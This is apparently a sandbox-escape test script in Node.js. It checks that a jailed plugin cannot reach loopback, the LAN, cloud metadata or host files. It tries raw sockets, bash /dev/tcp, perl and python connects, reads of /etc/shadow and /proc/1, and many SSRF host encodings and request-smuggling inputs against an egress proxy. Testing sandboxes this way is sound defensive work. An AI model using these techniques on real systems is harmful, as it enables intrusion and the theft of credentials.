// Wants out of its jail by every way that a program in Node has: "name: outcome". REACHED is a way out.
const child_process = require('child_process'), fs = require('fs'), net = require('net'), os = require('os'), path = require('path');
const { CANARY, LAN, EGRESS = process.env.APPZONE_EGRESS, GREETER, DATA = process.env.HOME, ATTACKER } = process.env;
const places = { loopback: CANARY, lan: LAN, metadata: '169.254.169.254:80', elsewhere: '192.0.2.1:80' };
const tell = (name, outcome) => console.log(`${name}: ${String(outcome).replace(/\s+/g, ' ')}`);
const port = CANARY.split(':')[1];

// raw connects by what lies below the preload.
function raw(address, six) {
  const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap');
  const [host, port] = address.split(':');
  const handle = new TCP(constants.SOCKET), request = new TCPConnectWrap();
  return new Promise((done) => {
    request.oncomplete = (status) => { handle.close(); done(status === 0 ? 'REACHED' : `status ${status}`); };
    const err = six ? handle.connect6(request, `::ffff:${host}`, +port) : handle.connect(request, host, +port);
    if (err) done(`status ${err}`);
    setTimeout(done, 3000, 'no answer').unref();
  });
}

function run(file, args, env = {}) {
  const r = child_process.spawnSync(file, args, { env: { PATH: process.env.PATH, ...env }, timeout: 20000, encoding: 'utf8' });
  return r.error ? r.error.code : r.stdout.trim() || `status ${r.status} ${r.stderr.trim().slice(0, 80)}`;
}

// ask sends bytes to the egress by hand, and returns what is answered within a second.
function ask(text, millis = 1000) {
  return new Promise((done) => {
    let all = '';
    const s = net.connect(EGRESS).setEncoding('latin1').on('data', (d) => { all += d; }).on('error', () => {}).on('close', () => done(all));
    s.write(text);
    setTimeout(() => s.destroy(), millis);
  });
}

const granted = (answer) => /^HTTP\/1.1 200/.test(answer) ? 'REACHED' : answer.split('\r\n')[0] || 'nothing';
const odd = [
  CANARY, `[::ffff:${CANARY.split(':')[0]}]:${port}`, `[::ffff:7f00:1]:${port}`, `[::1]:${port}`, `[::]:${port}`, `[0:0:0:0:0:ffff:7f00:0001]:${port}`, `[64:ff9b::7f00:1]:${port}`,
  `2130706433:${port}`, `0x7f000001:${port}`, `0177.0.0.1:${port}`, `0x7f.0.0.1:${port}`, `127.1:${port}`, `127.0.1:${port}`, `127.000.000.001:${port}`, `0:${port}`, `0.0.0.0:${port}`,
  `127.0.0.1.:${port}`, `localhost:${port}`, `localhost.:${port}`, `LOCALHOST:${port}`, `a.localhost:${port}`, `127。0。0。1:${port}`, `xn--127:${port}`, `%31%32%37.0.0.1:${port}`, `127.0.0.1%00:${port}`,
  `granted.example.com@127.0.0.1:${port}`, `127.0.0.1:${port}#granted.example.com:443`, `granted.example.com:443:${port}`, `http://${CANARY}/`, `//${CANARY}`, `${CANARY}/`, `[::ffff:127.0.0.1%lo]:${port}`,
  LAN, '169.254.169.254:80', '[::ffff:169.254.169.254]:80', 'metadata.google.internal:80', `${os.hostname()}:${port}`, `rebound.example.com:${port}`, `rebound.example.com.:${port}`,
  `127.0.0.1:${+port + 65536}`, `127.0.0.1:+${port}`, `127.0.0.1:0${port}`, `127.0.0.1: ${port}`, `127.0.0.1\t:${port}`, `x.appzone.internal:80`, `:${port}`, '',
];

async function main() {
  for (const [name, address] of Object.entries(places)) {
    tell(`tcp_wrap, ${name}`, await raw(address));
    tell(`tcp_wrap by IPv6, ${name}`, await raw(address, true));
    const [host, p] = address.split(':');
    const program = `require('net').connect(${p}, '${host}').on('connect', () => { console.log('REACHED'); process.exit() }).on('error', (e) => console.log(e.code)); setTimeout(process.exit, 3000).unref()`;
    tell(`node -e, ${name}`, run(process.execPath, ['-e', program]));
    tell(`node without the preload, ${name}`, run('/bin/sh', ['-c', `unset NODE_OPTIONS APPZONE_NETWORK APPZONE_EGRESS; exec "${process.execPath}" -e "${program}"`]));
    for (const key of Object.keys(require.cache)) delete require.cache[key];
    tell(`without modules, ${name}`, await new Promise((done) => new net.Socket().connect(+p, host, () => done('REACHED')).on('error', (err) => done(err.code))));
    tell(`bash, ${name}`, run('bash', ['-c', `exec 3<>/dev/tcp/${host}/${p} && echo REACHED`]));
    tell(`bash by UDP, ${name}`, run('bash', ['-c', `echo out >/dev/udp/${host}/${p} && echo sent`]));
    tell(`perl, ${name}`, run('perl', ['-MIO::Socket::INET', '-e', `print IO::Socket::INET->new(PeerAddr => '${address}', Timeout => 2) ? 'REACHED' : "$!"`]));
    tell(`python, ${name}`, run('/usr/bin/python3', ['-c', `import socket; s = socket.create_connection(('${host}', ${p}), 2); print('REACHED')`]));
  }
  tell('files of the host', fs.existsSync('/etc/shadow') || fs.existsSync(process.env.HOST_SOCKET) ? 'REACHED' : 'not there');
  const others = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n) && n !== '1' && fs.existsSync(`/proc/${n}/cmdline`) && ![process.pid, process.ppid].includes(+n));
  tell('other processes', others.length ? `REACHED ${others.map((n) => fs.readFileSync(`/proc/${n}/cmdline`))}` : 'none');
  for (const what of ['environ', 'mem', 'fd/0', 'fd/3', 'root/etc/shadow']) {
    try {
      tell(`the init's ${what}`, fs.readFileSync(`/proc/1/${what}`).length ? 'REACHED' : 'empty');
    } catch (err) { tell(`the init's ${what}`, err.code); }
  }

  const own = path.join(DATA, 'attacker'); // an ELF of its own, among its data
  fs.copyFileSync(ATTACKER, own);
  fs.chmodSync(own, 0o755);
  process.stdout.write(child_process.spawnSync(own, [], { env: { ...process.env, NODEBRIDGE_TEST_ATTACKER: '1' }, timeout: 120000 }).stdout);

  if (EGRESS) await byHand();
  console.log('end: reached');
  process.exit(0);
}

async function byHand() {
  for (const target of odd) tell(`egress, ${JSON.stringify(target)}`, granted(await ask(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)));
  const line = `CONNECT ${CANARY} HTTP/1.1\r\nHost: ${CANARY}\r\n\r\n`;
  tell('egress, folded', granted(await ask(`CONNECT ${GREETER}\r\n ${CANARY} HTTP/1.1\r\nHost: x\r\n\r\n`)));
  tell('egress, two hosts', granted(await ask(`CONNECT ${CANARY} HTTP/1.1\r\nHost: ${GREETER}\r\nHost: ${GREETER}\r\n\r\n`)));
  tell('egress, absolute form', granted(await ask(`GET http://${CANARY}/ HTTP/1.1\r\nHost: ${CANARY}\r\n\r\n`)));
  tell('egress, other methods', granted(await ask(`POST /resolve?name=localhost HTTP/1.1\r\nHost: x\r\nContent-Length: ${line.length}\r\n\r\n${line}`)));
  tell('egress, local', granted(await ask(`CONNECT ${CANARY} HTTP/1.1\r\nHost: x\r\nX-AppZone-Local: 1\r\n\r\n`)));
  tell('egress, names not granted', granted(await ask('GET /resolve?name=secret.attacker.example HTTP/1.1\r\nHost: x\r\n\r\n')));
  tell('egress, name with a line end', granted(await ask('GET /resolve?name=granted.example.com%0d%0aX:y HTTP/1.1\r\nHost: x\r\n\r\n')));
  const behind = await ask(`CONNECT ${GREETER} HTTP/1.1\r\nHost: x\r\n\r\n${line}`);
  tell('egress, a request behind', behind.endsWith(`hello\n${line}`) ? 'the peer got it' : `REACHED? ${JSON.stringify(behind)}`);
  const refused = await ask(`CONNECT ${CANARY} HTTP/1.1\r\nHost: x\r\n\r\nCONNECT ${GREETER} HTTP/1.1\r\nHost: x\r\n\r\n`);
  tell('egress, a request behind a refused one', refused.includes('200 OK') ? 'REACHED' : 'closed');
  tell('egress, a huge head', granted(await ask(`CONNECT ${GREETER} HTTP/1.1\r\nX: ${'x'.repeat(1 << 20)}\r\n\r\n`, 3000)));
  tell('egress, many headers', granted(await ask(`CONNECT ${GREETER} HTTP/1.1\r\n${'A: b\r\n'.repeat(100000)}\r\n`, 3000)));

  // What is slow, or much, must not keep the plugin's own requests waiting for good, and others' not at all.
  const slow = Array.from({ length: 100 }, () => net.connect(EGRESS).on('error', () => {}).on('close', () => {}));
  for (const s of slow) s.write('CONNECT ');
  tell('egress, beside slow heads', /hello/.test(await ask(`CONNECT ${GREETER} HTTP/1.1\r\nHost: x\r\n\r\n`)) ? 'answered' : 'NOT ANSWERED');
  for (const s of slow) s.destroy();
  let made = 0;
  for (let round = 0; round < 20; round++) {
    await Promise.all(Array.from({ length: 100 }, () => new Promise((done) => {
      const s = net.connect(EGRESS, () => { made++; s.destroy(); }).on('error', () => {}).on('close', done);
    })));
  }
  await new Promise((done) => setTimeout(done, 500));
  tell('egress, after a flood', made > 1000 && /hello/.test(await ask(`CONNECT ${GREETER} HTTP/1.1\r\nHost: x\r\n\r\n`)) ? 'answered' : `NOT ANSWERED ${made}`);
}

main();
